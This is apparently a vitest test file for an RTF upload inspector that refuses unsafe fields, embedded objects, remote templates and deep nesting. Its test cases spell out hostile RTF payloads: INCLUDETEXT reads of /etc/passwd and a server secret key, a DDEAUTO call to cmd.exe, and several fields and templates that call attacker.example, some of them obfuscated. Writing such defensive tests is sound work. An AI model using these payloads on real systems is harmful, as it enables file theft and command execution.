import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { checkUploadContent } from '@/lib/server/documents/upload/check-upload-content';
import type { OfficeConverter } from '@/lib/server/office/convert-to-pdf';
import { claimedFileKind } from '@/lib/upload/file-kind';
import { inspectRtfText, MAX_RTF_DEPTH } from '@/lib/server/file-type/inspect-rtf';
import { makeRtf } from '@/tests/fixtures/office-files';

const rtf = (body: string) => `{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Helvetica;}}\\f0 ${body}\\par}`;
const field = (instruction: string) => rtf(`{\\field{\\*\\fldinst ${instruction}}{\\fldrslt shown}}`);

describe('inspectRtfText', () => {
  it('accepts ordinary documents: text, Unicode, page and hyperlink fields, a local template, binary picture data', () => {
    expect(() => inspectRtfText(makeRtf('Letter from Signet \\u269?e').toString('latin1'))).not.toThrow();
    expect(() => inspectRtfText(field('PAGE'))).not.toThrow();
    expect(() => inspectRtfText(field('HYPERLINK "https://example.com/include"'))).not.toThrow();
    expect(() => inspectRtfText(rtf('{\\*\\template C:\\\\Users\\\\ana\\\\Normal.dotm}Text'))).not.toThrow();
    expect(() => inspectRtfText(rtf('{\\pict\\pngblip\\bin6 {{{{{}text'))).not.toThrow();
  });

  it.each([
    ['INCLUDEPICTURE "http://attacker.example/pixel.png" \\\\d', 'INCLUDEPICTURE'],
    ['INCLUDETEXT "/srv/signet/data/keys/auth.secret"', 'INCLUDETEXT'],
    ['includetext "file:///etc/passwd"', 'INCLUDETEXT'],
    ['{INCLUDE}{TEXT "C:\\\\\\\\secret.txt"}', 'INCLUDETEXT'],
    ['INCLUDE\\\'50ICTURE "http://attacker.example/x"', 'INCLUDEPICTURE'],
    ['\\u73?NCLUDEPICTURE "http://attacker.example/x"', 'INCLUDEPICTURE'],
    ['LINK Excel.Sheet.8 "\\\\\\\\server\\\\share\\\\book.xls" "Sheet1!R1C1"', 'LINK'],
    ['DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"', 'DDEAUTO'],
    ['IF 1 = 1 "{\\field{\\*\\fldinst IMPORT "http://attacker.example/x.wmf"}}"', 'IMPORT'],
  ])('refuses a field that loads outside content: %s', (instruction, name) => {
    expect(() => inspectRtfText(field(instruction))).toThrow(
      expect.objectContaining({ code: 'UNSAFE_FILE', detail: expect.stringContaining(name) }),
    );
  });

  it('refuses embedded and linked objects', () => {
    const object = rtf('{\\object\\objemb{\\*\\objclass Excel.Sheet.12}{\\*\\objdata 01050000020000000b000000}}');
    expect(() => inspectRtfText(object)).toThrow(
      expect.objectContaining({ code: 'UNSAFE_FILE', detail: expect.stringContaining('object') }),
    );
    expect(() => inspectRtfText(rtf('{\\objautlink x}'))).toThrow(expect.objectContaining({ code: 'UNSAFE_FILE' }));
  });

  it('refuses a template on another machine', () => {
    for (const template of [
      'http://attacker.example/t.dotm',
      '\\\\\\\\attacker\\\\share\\\\t.dotm',
      'file://attacker/t.dotm',
    ]) {
      expect(() => inspectRtfText(rtf(`{\\*\\template ${template}}Text`))).toThrow(
        expect.objectContaining({ code: 'UNSAFE_FILE', detail: expect.stringContaining('template') }),
      );
    }
  });

  it('refuses absurdly deep nesting', () => {
    const deep = `{\\rtf1 ${'{'.repeat(MAX_RTF_DEPTH + 1)}x${'}'.repeat(MAX_RTF_DEPTH + 1)}}`;
    expect(() => inspectRtfText(deep)).toThrow(
      expect.objectContaining({ code: 'UNSAFE_FILE', detail: expect.stringContaining('nested') }),
    );
  });
});

describe('checkUploadContent for .rtf', () => {
  it('inspects an RTF upload before converting it', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'signet-rtf-'));
    const file = path.join(dir, 'letter.rtf');
    const bytes = Buffer.from(field('INCLUDETEXT "/srv/signet/data/keys/auth.secret"'));
    writeFileSync(file, bytes);
    let converted = false;
    const converter = {
      convert: () => {
        converted = true;
        return Promise.reject(new Error('not reached'));
      },
    } as unknown as OfficeConverter;
    await expect(
      checkUploadContent(claimedFileKind('letter.rtf'), { size: bytes.length, file }, { maxPages: 10, converter }),
    ).rejects.toMatchObject({
      code: 'UNSAFE_FILE',
    });
    expect(converted).toBe(false);
  });
});
